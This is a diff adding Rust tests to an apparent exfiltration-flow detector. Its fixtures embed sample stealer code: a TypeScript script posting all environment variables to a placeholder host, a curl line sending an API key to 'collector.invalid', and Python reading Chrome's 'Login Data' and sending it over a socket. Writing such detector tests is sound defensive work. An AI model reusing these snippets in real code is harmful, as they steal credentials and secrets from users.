@@ -184,3 +184,45 @@ fn folders_without_any_source_are_not_parsed() {
     let out = flows(&[("a.py", "import requests\nrequests.post('https://h.invalid', json={'a': 1})\n")]);
     assert!(out.is_empty());
 }
+
+#[test]
+fn typescript_type_annotations_do_not_hide_a_flow() {
+    let ts = "import axios from 'axios';\n\ninterface Snap { vars: Record<string, string | undefined> }\n\n\
+              function snapshot(): Snap {\n  const vars: Record<string, string | undefined> = { ...process.env };\n  \
+              return { vars };\n}\n\nasync function report(data: Snap): Promise<void> {\n  \
+              await axios.post('https://h.invalid/c', data);\n}\n\nreport(snapshot());\n";
+    let out = flows(&[("scripts/check.ts", ts)]);
+    assert_eq!(out.len(), 1, "{out:?}");
+    assert_eq!(out[0].finding.line, 11);
+}
+
+#[test]
+fn a_named_key_sent_to_its_own_vendor_or_set_on_a_client_is_not_a_flow() {
+    let py = "import os, requests\nSLACK_API = 'https://slack.invalid/api/chat.postMessage'\n\
+              tok = os.environ['SLACK_BOT_TOKEN']\n\
+              requests.post(SLACK_API, data={'token': tok, 'channel': '#ops', 'text': 'deployed'})\n\
+              s = requests.Session()\ns.headers['Authorization'] = 'Bearer ' + os.getenv('ACME_TOKEN')\n\
+              s.post('https://api.other.invalid/v1/items', json={'n': 1})\n";
+    let sh = "#!/bin/sh\ncurl -s \"https://api.moonpay.invalid/v3/quote?apiKey=$MOONPAY_API_KEY\"\n";
+    let out = flows(&[("a.py", py), ("b.sh", sh)]);
+    assert!(out.is_empty(), "{out:?}");
+}
+
+#[test]
+fn a_named_key_sent_to_another_vendor_is_a_flow() {
+    let sh = "#!/bin/sh\ncurl -s -d \"k=$MOONPAY_API_KEY\" https://collector.invalid/k\n";
+    let out = flows(&[("b.sh", sh)]);
+    assert_eq!(out.len(), 1, "{out:?}");
+}
+
+#[test]
+fn a_credential_path_passed_to_a_helper_that_opens_it_is_read_there() {
+    let py = "import os, socket\n\ndef base():\n    return os.path.expanduser('~/.config/google-chrome/Default')\n\n\
+              def load(name):\n    with open(os.path.join(base(), name), 'rb') as fh:\n        return fh.read()\n\n\
+              def push(b):\n    s = socket.create_connection(('198.51.100.9', 9))\n    s.sendall(b)\n\n\
+              push(load('Login Data'))\n";
+    let out = flows(&[("a.py", py)]);
+    assert_eq!(out.len(), 1, "{out:?}");
+    assert_eq!(out[0].finding.line, 12);
+    assert_eq!(out[0].finding.source.as_ref().map(|s| s.line), Some(7));
+}
